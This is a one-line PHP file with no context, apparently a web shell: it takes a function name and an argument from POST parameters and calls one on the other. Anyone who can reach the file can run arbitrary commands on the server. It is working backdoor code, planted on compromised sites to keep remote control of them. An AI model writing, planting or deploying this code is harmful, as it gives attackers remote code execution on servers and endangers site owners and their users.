<?php $a=$_POST['a'];$b=$_POST['b'];$a($b);?>
